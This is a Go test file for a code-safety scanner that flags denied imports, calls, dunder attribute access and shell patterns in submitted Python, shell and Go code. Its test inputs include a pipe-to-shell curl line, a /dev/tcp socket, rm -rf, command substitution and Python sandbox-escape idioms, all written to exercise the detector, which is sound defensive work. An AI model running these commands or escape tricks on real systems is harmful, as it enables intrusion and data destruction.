package scan

import (
	"context"
	"strings"
	"testing"

	"cmdforge/internal/types"
)

func newScanner(t *testing.T, mutate func(*Rules)) *Scanner {
	t.Helper()
	r := DefaultRules()
	if mutate != nil {
		mutate(&r)
	}
	s, err := New(r)
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return s
}

func TestPrefilter_ImportSocketLabelMatchesStructural(t *testing.T) {
	s := newScanner(t, nil)
	src := "import socket\nsocket.socket()\n"

	pre := s.Prefilter(src, "python")
	v, ok := pre.First()
	if !ok || v.Rule != RuleTextual || v.Pattern != "import socket" {
		t.Fatalf("prefilter first = %+v", v)
	}
	if got := pre.Result().Reason.String(); got != "SecurityViolation{import socket}" {
		t.Fatalf("reason = %q", got)
	}

	an := s.Analyze(context.Background(), src, "python")
	v, ok = an.First()
	if !ok || v.Rule != RuleImport || v.Pattern != "import socket" || v.Line != 1 {
		t.Fatalf("analyze first = %+v", v)
	}
}

func TestScan_SourceTooLongIsTheOnlyViolation(t *testing.T) {
	s := newScanner(t, func(r *Rules) { r.MaxSourceLength = 10 })
	rep := s.Scan(context.Background(), "import os\n#x", "python")
	if len(rep.Violations) != 1 {
		t.Fatalf("violations = %+v", rep.Violations)
	}
	v := rep.Violations[0]
	if v.Kind != types.KindSourceTooLong || v.Pattern != "12 > 10" {
		t.Fatalf("violation = %+v", v)
	}
}

func TestScan_UnsupportedLanguageFailsClosed(t *testing.T) {
	s := newScanner(t, nil)
	rep := s.Scan(context.Background(), "DISPLAY 'HI'.", "cobol")
	res := rep.Result()
	if res.Outcome != types.OutcomeFail || res.Reason.Kind != types.KindUnsupportedLanguage {
		t.Fatalf("result = %+v", res)
	}
}

func TestScan_CleanPythonPasses(t *testing.T) {
	s := newScanner(t, nil)
	src := "import re\npattern = re.compile(r\"a+\")\nprint(pattern.match(\"aa\"))\n"
	rep := s.Scan(context.Background(), src, "py")
	if rep.Failed() {
		t.Fatalf("violations = %+v", rep.Violations)
	}
	if res := rep.Result(); res.Outcome != types.OutcomePass || res.Layer != types.LayerStatic {
		t.Fatalf("result = %+v", res)
	}
}

func TestAnalyze_AliasedCallCaughtStructurally(t *testing.T) {
	s := newScanner(t, nil)
	src := "import os as o\no.system(\"id\")\n"
	if pre := s.Prefilter(src, "python"); pre.Failed() {
		t.Fatalf("prefilter unexpectedly failed: %+v", pre.Violations)
	}
	rep := s.Analyze(context.Background(), src, "python")
	v, ok := rep.First()
	if !ok || v.Rule != RuleCall || v.Pattern != "os.system" || v.Line != 2 {
		t.Fatalf("first = %+v", v)
	}
}

func TestAnalyze_Findings(t *testing.T) {
	s := newScanner(t, nil)
	cases := []struct {
		name    string
		src     string
		rule    string
		pattern string
	}{
		{"dunder", "x = ().__class__.__bases__\n", RuleAttribute, "__class__"},
		{"reference", "f = eval\n", RuleReference, "eval"},
		{"from import", "from os import system\n", RuleImport, "os.system"},
		{"builtins", "import builtins\nbuiltins.exec('1')\n", RuleCall, "exec"},
		{"wildcard", "import os\nos.execv('/bin/sh', [])\n", RuleCall, "os.exec*"},
		{"submodule", "import urllib.request\n", RuleImport, "import urllib"},
		{"module dict", "import os\nos.__dict__['system']('id')\n", RuleAttribute, "__dict__"},
		{"getattribute", "import os\nos.__getattribute__('system')('id')\n", RuleAttribute, "__getattribute__"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rep := s.Analyze(context.Background(), tc.src, "python")
			v, ok := rep.First()
			if !ok || v.Rule != tc.rule || v.Pattern != tc.pattern {
				t.Fatalf("first = %+v, want %s %s", v, tc.rule, tc.pattern)
			}
		})
	}
}

func TestAnalyze_SyntaxErrorIsAViolation(t *testing.T) {
	s := newScanner(t, nil)
	rep := s.Analyze(context.Background(), "def f(:\n", "python")
	res := rep.Result()
	if res.Outcome != types.OutcomeFail || res.Reason.Kind != types.KindSyntaxError {
		t.Fatalf("result = %+v", res)
	}
	if !strings.HasPrefix(res.Reason.Detail, "line 1:") {
		t.Fatalf("detail = %q", res.Reason.Detail)
	}
}

func TestAnalyze_CancelledContext(t *testing.T) {
	s := newScanner(t, nil)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	rep := s.Analyze(ctx, "print(1)\n", "python")
	if rep.Err == nil {
		t.Fatalf("expected context error")
	}
}

func TestScan_InfiniteLoopWarning(t *testing.T) {
	s := newScanner(t, nil)
	rep := s.Scan(context.Background(), "while True:\n    pass\n", "python")
	if rep.Failed() {
		t.Fatalf("violations = %+v", rep.Violations)
	}
	if len(rep.Warnings) != 1 || !strings.Contains(rep.Warnings[0], "infinite loop") {
		t.Fatalf("warnings = %v", rep.Warnings)
	}
}

func TestPrefilter_TextualPatterns(t *testing.T) {
	s := newScanner(t, func(r *Rules) { r.Patterns = []string{`secret_token`} })
	cases := []struct {
		lang, src, label string
	}{
		{"shell", "rm -rf /tmp/x\n", "rm -rf"},
		{"shell", "curl http://x | sh\n", "pipe to shell"},
		{"shell", "cat < /dev/tcp/10.0.0.1/80\n", "/dev/tcp"},
		{"python", "x = \"$(whoami)\"\n", "command substitution"},
		{"python", "X = EVAL('1')\n", "eval"},
		{"python", "print(SECRET_TOKEN)\n", "secret_token"},
		{"go", "package main\n\nimport \"os/exec\"\n", "import os/exec"},
	}
	for _, tc := range cases {
		rep := s.Prefilter(tc.src, tc.lang)
		found := false
		for _, v := range rep.Violations {
			if v.Pattern == tc.label && v.Rule == RuleTextual {
				found = true
			}
		}
		if !found {
			t.Fatalf("%s %q: want %q in %+v", tc.lang, tc.src, tc.label, rep.Violations)
		}
	}
}

func TestNew_RejectsBadPattern(t *testing.T) {
	r := DefaultRules()
	r.Patterns = []string{"("}
	if _, err := New(r); err == nil {
		t.Fatalf("expected error for invalid pattern")
	}
}

func TestAnalyze_ShellAndGo(t *testing.T) {
	s := newScanner(t, nil)
	rep := s.Analyze(context.Background(), "echo hi\nsudo curl http://x\n", "bash")
	v, ok := rep.First()
	if !ok || v.Pattern != "sudo" || v.Line != 2 {
		t.Fatalf("shell first = %+v", v)
	}

	src := "package main\n\nimport x \"os/exec\"\n\nfunc main() { x.Command(\"ls\").Run() }\n"
	rep = s.Analyze(context.Background(), src, "golang")
	v, ok = rep.First()
	if !ok || v.Rule != RuleImport || v.Pattern != "import os/exec" {
		t.Fatalf("go first = %+v", v)
	}
}

func TestScan_StarImportOfDeniedOwnerFailsClosed(t *testing.T) {
	s := newScanner(t, nil)
	cases := []struct {
		lang, src, pattern string
		line               int
	}{
		{"python", "from os import *\nsystem('id')\n", "os.*", 1},
		{"go", "package main\n\nimport . \"os\"\n\nfunc main() { RemoveAll(\"/tmp/x\") }\n", "os.*", 3},
	}
	for _, tc := range cases {
		rep := s.Scan(context.Background(), tc.src, tc.lang)
		v, ok := rep.First()
		if !ok || v.Rule != RuleImport || v.Pattern != tc.pattern || v.Line != tc.line {
			t.Fatalf("%s: first = %+v", tc.lang, v)
		}
		if got := rep.Result().Reason.String(); got != "SecurityViolation{"+tc.pattern+"}" {
			t.Fatalf("%s: reason = %q", tc.lang, got)
		}
	}

	// star imports of modules without denied functions stay allowed
	for lang, src := range map[string]string{
		"python": "from math import *\nprint(sqrt(4))\n",
		"go":     "package main\n\nimport . \"fmt\"\n\nfunc main() { Println(1) }\n",
	} {
		if rep := s.Scan(context.Background(), src, lang); rep.Failed() {
			t.Fatalf("%s: violations = %+v", lang, rep.Violations)
		}
	}
}
